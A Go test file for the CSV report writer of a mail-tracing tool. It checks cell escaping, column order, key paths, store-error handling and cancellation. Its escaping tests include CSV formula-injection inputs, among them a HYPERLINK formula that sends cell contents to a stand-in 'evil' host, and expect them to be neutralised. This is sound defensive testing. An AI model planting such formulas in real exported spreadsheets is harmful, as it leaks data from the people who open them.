package report_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mailtrace/mailtrace/internal/mailflow"
	"github.com/mailtrace/mailtrace/internal/report"
	"github.com/mailtrace/mailtrace/internal/testutil/miniotest"
)

func TestMain(m *testing.M) { miniotest.Main(m) }

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+2", "'=1+2"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+41 22 000", "'+41 22 000"},
		{"-2", "'-2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"＝1+1", "'＝1+1"},
		{"＠x", "'＠x"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'quoted", "'quoted"},
		{"2026-01-02T03:04:05Z", "2026-01-02T03:04:05Z"},
		{"user@example.com", "user@example.com"},
		{"日本語の件名", "日本語の件名"},
	}
	for _, tc := range tests {
		if got := report.SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestKey(t *testing.T) {
	tests := []struct {
		prefix, ns, name, uid string
		gz                    bool
		want                  string
	}{
		{"", "mail", "failed-7d", "1234-abcd", false, "mail/failed-7d-1234-abcd/messagetrace.csv"},
		{"", "mail", "failed-7d", "1234-abcd", true, "mail/failed-7d-1234-abcd/messagetrace.csv.gz"},
		{"reports", "mail", "t", "u", true, "reports/mail/t-u/messagetrace.csv.gz"},
		{"/reports/", "mail", "t", "u", false, "reports/mail/t-u/messagetrace.csv"},
		{"a/b//", "ns", "t", "u", false, "a/b/ns/t-u/messagetrace.csv"},
		{"/", "ns", "t", "u", false, "ns/t-u/messagetrace.csv"},
	}
	for _, tc := range tests {
		if got := report.Key(tc.prefix, tc.ns, tc.name, tc.uid, tc.gz); got != tc.want {
			t.Errorf("Key(%q, %q, %q, %q, %v) = %q, want %q", tc.prefix, tc.ns, tc.name, tc.uid, tc.gz, got, tc.want)
		}
	}
}

// fakeStore serves fixed rows and events from memory (for the CSV tests that
// need exact control over the data), paging like a real store.
type fakeStore struct {
	rows    []mailflow.Row
	events  map[string][]mailflow.Event // by trace id + "\x00" + recipient
	failAt  int                         // fail the page starting at this row (when > 0)
	failErr error
	calls   int
}

func (f *fakeStore) Trace(ctx context.Context, q mailflow.Query, c mailflow.Cursor, limit int) (mailflow.Page, error) {
	f.calls++
	start := 0
	if c != "" {
		start, _ = strconv.Atoi(string(c))
	}
	if f.failAt > 0 && start >= f.failAt {
		return mailflow.Page{}, f.failErr
	}
	end := min(start+limit, len(f.rows))
	p := mailflow.Page{Rows: append([]mailflow.Row(nil), f.rows[start:end]...)}
	if end < len(f.rows) {
		p.Next = mailflow.Cursor(strconv.Itoa(end))
	}
	return p, nil
}

func (f *fakeStore) Events(ctx context.Context, mtid, rcpt string) ([]mailflow.Event, error) {
	return f.events[mtid+"\x00"+rcpt], nil
}

func (f *fakeStore) ScopedEvents(ctx context.Context, _ []string, mtid, rcpt string) ([]mailflow.Event, error) {
	return f.Events(ctx, mtid, rcpt)
}
func (f *fakeStore) Append(context.Context, []mailflow.Event) error { return nil }
func (f *fakeStore) Count(context.Context, mailflow.Query) (mailflow.Counts, error) {
	return mailflow.Counts{}, nil
}
func (f *fakeStore) Prune(context.Context, time.Time) error { return nil }
func (f *fakeStore) Ping(context.Context) error             { return nil }
func (f *fakeStore) Close() error                           { return nil }

var anyQuery = mailflow.Query{Start: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), End: time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)}

func parse(t testing.TB, b []byte, gz bool) [][]string {
	t.Helper()
	var r io.Reader = bytes.NewReader(b)
	if gz {
		zr, err := gzip.NewReader(r)
		if err != nil {
			t.Fatalf("gunzip: %v", err)
		}
		r = zr
	}
	cr := csv.NewReader(r)
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	return recs
}

// TestQuoting: commas, quotes, line breaks, Unicode, formulas and invalid
// UTF-8 survive a round trip through encoding/csv (RFC 4180) as the cell the
// report promises.
func TestQuoting(t *testing.T) {
	subjects := []struct{ in, want string }{
		{`plain`, `plain`},
		{`with, comma`, `with, comma`},
		{`with "quotes"`, `with "quotes"`},
		{"two\nlines", "two\nlines"},
		{"crlf\r\ninside", "crlf\ninside"},
		{"lone\rcr", "lone\ncr"},
		{"\rleading cr", "'\nleading cr"},
		{`日本語の件名 — ünïcödé 📧`, `日本語の件名 — ünïcödé 📧`},
		{`=HYPERLINK("http://evil/?"&A1,"click")`, `'=HYPERLINK("http://evil/?"&A1,"click")`},
		{"-1+2", "'-1+2"},
		{" leading space", " leading space"},
		{"bad \xff utf-8", "bad \uFFFD utf-8"},
		{strings.Repeat("é", 300), strings.Repeat("é", 256)},
	}
	f := &fakeStore{}
	for i, s := range subjects {
		f.rows = append(f.rows, mailflow.Row{
			Received: time.Date(2026, 1, 2, 3, 4, 5, 123000000, time.FixedZone("JST", 9*3600)), Sender: "+evil@example.com",
			Recipient: fmt.Sprintf("r%d@example.com", i), Subject: s.in, Status: mailflow.StatusDelivered,
			MessageID: "<a,b@example.com>", MessageTraceID: fmt.Sprintf("mt-%d", i), Size: 1234,
			OriginalClientIP: "2001:db8::1", FromIP: "192.0.2.1", ToIP: "198.51.100.2", Direction: mailflow.DirectionInbound,
		})
	}
	var buf bytes.Buffer
	res, err := report.Write(context.Background(), &buf, f, anyQuery, report.Options{PageSize: 4}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte(strings.Join(report.SummaryColumns, ",")+"\r\n")) {
		t.Errorf("header line: %q", buf.String()[:200])
	}
	recs := parse(t, buf.Bytes(), false)
	if len(recs) != len(subjects)+1 || res.Rows != int64(len(subjects)) {
		t.Fatalf("%d records, Rows %d; want %d", len(recs), res.Rows, len(subjects))
	}
	for i, s := range subjects {
		rec := recs[i+1]
		if rec[3] != s.want {
			t.Errorf("subject %q: read back %q, want %q", s.in, rec[3], s.want)
		}
		if rec[0] != "2026-01-01T18:04:05.123Z" || rec[1] != "'+evil@example.com" || rec[6] != "<a,b@example.com>" || rec[8] != "2001:db8::1" {
			t.Errorf("record %d: %q", i, rec)
		}
	}
}

func TestWriteReportsStoreErrors(t *testing.T) {
	boom := errors.New("store down")
	f := &fakeStore{failAt: 20, failErr: boom}
	for i := range 50 {
		f.rows = append(f.rows, mailflow.Row{MessageTraceID: fmt.Sprint(i), Received: anyQuery.Start})
	}
	var buf bytes.Buffer
	res, err := report.Write(context.Background(), &buf, f, anyQuery, report.Options{PageSize: 10}, nil)
	if !errors.Is(err, boom) || !errors.Is(err, report.ErrTraceStore) {
		t.Fatalf("Write = %v, want the store's error", err)
	}
	if res.Rows != 20 {
		t.Errorf("Rows = %d, want the 20 written before the failure", res.Rows)
	}
}

func TestWriteRejectsUnknownKind(t *testing.T) {
	if _, err := report.Write(context.Background(), io.Discard, &fakeStore{}, anyQuery, report.Options{Kind: "Everything"}, nil); err == nil {
		t.Fatal("Write accepted an unknown kind")
	}
}

// TestDetailedRowWithoutEvents: a (message, recipient) whose events are not
// known still has a row.
func TestDetailedRowWithoutEvents(t *testing.T) {
	f := &fakeStore{rows: []mailflow.Row{{MessageTraceID: "m1", Recipient: "a@x", Received: anyQuery.Start, Status: mailflow.StatusGettingStatus}}}
	var buf bytes.Buffer
	res, err := report.Write(context.Background(), &buf, f, anyQuery, report.Options{Kind: report.Detailed}, nil)
	if err != nil {
		t.Fatal(err)
	}
	recs := parse(t, buf.Bytes(), false)
	if len(recs) != 2 || res.Rows != 1 || res.TraceRows != 1 || len(recs[1]) != len(report.DetailedColumns) || recs[1][slices.Index(report.DetailedColumns, "date_time_utc")] != "" {
		t.Errorf("records %q, result %+v", recs, res)
	}
}

func TestWriteStopsWhenCancelled(t *testing.T) {
	f := &fakeStore{}
	for i := range 5000 {
		f.rows = append(f.rows, mailflow.Row{MessageTraceID: fmt.Sprint(i), Received: anyQuery.Start})
	}
	ctx, cancel := context.WithCancel(context.Background())
	_, err := report.Write(ctx, io.Discard, f, anyQuery, report.Options{PageSize: 10}, func(rows int64) {
		if rows >= 100 {
			cancel()
		}
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Write = %v, want context.Canceled", err)
	}
	if f.calls > 20 {
		t.Errorf("the store was asked %d pages after cancellation at the 10th", f.calls)
	}
}

// The columns: Exchange's first, in Exchange's order, in both reports
// (PRODUCT.md), ours after them; every summary column is in the detailed
// report once, and mailbox_folder is the last column of both.
func TestColumns(t *testing.T) {
	exchangeSummary := []string{"origin_timestamp_utc", "sender_address", "recipient_address", "message_subject", "delivery_status",
		"total_bytes", "message_id", "network_message_id", "original_client_ip", "from_ip", "to_ip", "directionality"}
	exchangeDetailed := append(slices.Clone(exchangeSummary), "date_time_utc", "event_id", "source", "recipient_status", "server_ip",
		"server_hostname", "client_ip", "client_hostname", "relay", "dsn", "detail")
	if want := append(slices.Clone(exchangeSummary), "mailbox_folder"); !slices.Equal(report.SummaryColumns, want) {
		t.Errorf("SummaryColumns %q, want %q", report.SummaryColumns, want)
	}
	if want := append(slices.Clone(exchangeDetailed), "spam_action", "spam_score", "spam_symbols", "mailbox_folder"); !slices.Equal(report.DetailedColumns, want) {
		t.Errorf("DetailedColumns %q, want %q", report.DetailedColumns, want)
	}
	seen := map[string]int{}
	for _, c := range report.DetailedColumns {
		seen[c]++
	}
	for _, c := range report.SummaryColumns {
		if seen[c] != 1 {
			t.Errorf("summary column %q is %d times in the detailed report", c, seen[c])
		}
	}
}

// A row's folder is the last cell of its summary record and of each of its
// detailed records, the event's own cells before it.
func TestFolderColumn(t *testing.T) {
	row := mailflow.Row{MessageTraceID: "m1", Recipient: "a@x", Received: anyQuery.Start, Status: mailflow.StatusDelivered, Folder: "Junk"}
	for _, kind := range []report.Kind{report.Summary, report.Detailed} {
		var buf bytes.Buffer
		if _, err := report.Write(context.Background(), &buf, &fakeStore{rows: []mailflow.Row{row}}, anyQuery, report.Options{Kind: kind}, nil); err != nil {
			t.Fatal(err)
		}
		recs := parse(t, buf.Bytes(), false)
		if len(recs) != 2 || recs[1][len(recs[1])-1] != "Junk" || recs[0][len(recs[0])-1] != "mailbox_folder" {
			t.Errorf("%s: records %q", kind, recs)
		}
	}
}
